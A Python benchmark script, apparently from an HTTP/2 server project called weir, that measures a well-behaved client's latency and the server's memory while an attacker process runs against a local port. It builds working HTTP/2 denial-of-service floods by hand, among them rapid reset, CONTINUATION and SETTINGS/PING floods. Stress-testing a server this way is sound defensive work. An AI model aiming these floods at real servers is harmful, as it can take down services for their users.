"""A well-behaved client beside attackers of HTTP/2: what its requests take, and weir's memory.

Run by itself this is the attacker: `attackers.py FLOOD PORT SECONDS` opens one connection after the
other, sends a flood on each until weir cuts it, and prints how many there were.
"""

import socket
import statistics
import subprocess
import sys
import time

import meters
import peers

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
FRAMES = 1000
# GET, http, /, and an authority that is not indexed.
BLOCK = bytes([0x82, 0x86, 0x84, 0x01, 0x01]) + b"a"


def frame(kind, flags=0, stream=0, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


def request(stream, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, BLOCK)


def repeated(make):
    return b"".join(make(2 * n + 1) for n in range(FRAMES))


FLOODS = {
    "rapid reset": lambda: repeated(
        lambda stream: request(stream) + frame(RESET, 0, stream, b"\0\0\0\x08")),
    "provoked resets": lambda: repeated(
        lambda stream: request(stream) + frame(WINDOW, 0, stream, b"\0\0\0\0")),
    "CONTINUATION": lambda: request(1, END_STREAM) + repeated(
        lambda _: frame(CONTINUATION, 0, 1, b"\0\x01a\x01b")),
    "SETTINGS": lambda: repeated(lambda _: frame(SETTINGS)),
    "PING": lambda: repeated(lambda _: frame(PING, 0, 0, b"weir" * 2)),
    "empty DATA": lambda: request(1, END_HEADERS) + repeated(lambda _: frame(DATA, 0, 1)),
    "PRIORITY": lambda: repeated(lambda stream: frame(PRIORITY, 0, stream, b"\0\0\0\0\x0f")),
    "WINDOW_UPDATE": lambda: repeated(lambda _: frame(WINDOW, 0, 0, b"\0\0\0\x01")),
}


def attack(flood, port, seconds):
    octets = PREFACE + frame(SETTINGS) + FLOODS[flood]()
    end, connections = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
            try:
                connection.sendall(octets)
                while connection.recv(65536):
                    pass
            except ConnectionError:
                pass
        connections += 1
    return connections


def well_behaved(port, seconds):
    """800 requests a second over 8 connections: p50 and p99 in microseconds."""
    load = meters.StreamLoad(port, "/bytes/1024", 1024, connections=8, streams=1, seconds=seconds,
                             rate=100)
    try:
        result = load.result()
        return result["p50_us"], result["p99_us"]
    finally:
        load.finish()


def measure(peer, flood, seconds):
    """p50, p99 and the memory's growth, of a client alone or with `flood` beside it."""
    before = meters.anonymous_bytes(peer.pids())
    # It shares a core with the client that is measured, which must not wait for the attacker's
    # slice to end (3 ms under EEVDF, for `nice` too): real ones sit on machines of their own.
    attacker = flood and subprocess.Popen(
        peers.pinned("1", ["chrt", "--idle", "0", sys.executable, __file__, flood,
                           str(peer.port), str(seconds)]), stdout=subprocess.PIPE, text=True)
    usual, late = well_behaved(peer.port, seconds)
    grown = meters.anonymous_bytes(peer.pids()) - before
    return usual, late, grown, int(attacker.communicate()[0]) if attacker else 0


def undisturbed_by_host(latencies):
    """The lower quartile: what a shared host takes away for some milliseconds is a p99 by itself,
    and takes half of the rounds at times."""
    return statistics.quantiles(latencies, n=4)[0]


def section(names, rounds=30, seconds=1):
    lines = ["### A client that behaves, beside attackers of HTTP/2 (weir)", "",
             f"800 requests a second over 8 connections, {rounds} interleaved rounds of {seconds} "
             "s: the median of the p50, the median and the lower quartile of the p99. The "
             "attacker opens one connection after the other, as fast as it can, and gives way to "
             "the client, with which it shares a core. Compared with the better of two rows "
             "without one, which show how far two measurements of the same differ.",
             "", "| attack | p50 µs | p99 µs | p99, quartile µs | to undisturbed | attacks/s "
             "| memory |", "| --- | --- | --- | --- | --- | --- | --- |"]
    origin = peers.Origin()
    peer = peers.Peer("weir", peers.Job(http2=True), origin)
    found = {flood: [] for flood in ("none", *FLOODS, "none, again")}
    try:
        well_behaved(peer.port, seconds)
        for _ in range(rounds):
            for flood, outcomes in found.items():
                outcomes.append(measure(peer, flood if flood in FLOODS else None, seconds))
    finally:
        peer.stop()
        origin.stop()
    calm = min(undisturbed_by_host([late for _, late, _, _ in found[alone]])
               for alone in found if alone not in FLOODS)
    for flood, outcomes in found.items():
        usual, late, _, count = map(statistics.median, zip(*outcomes))
        quiet = undisturbed_by_host([late for _, late, _, _ in outcomes])
        grown = max(grown for _, _, grown, _ in outcomes) / (1 << 20)
        lines.append(f"| {flood} | {usual:,.0f} | {late:,.0f} | {quiet:,.0f} "
                     f"| {quiet / calm:.2f} | {count / seconds:,.0f} | {grown:+.1f} MiB |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    print(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
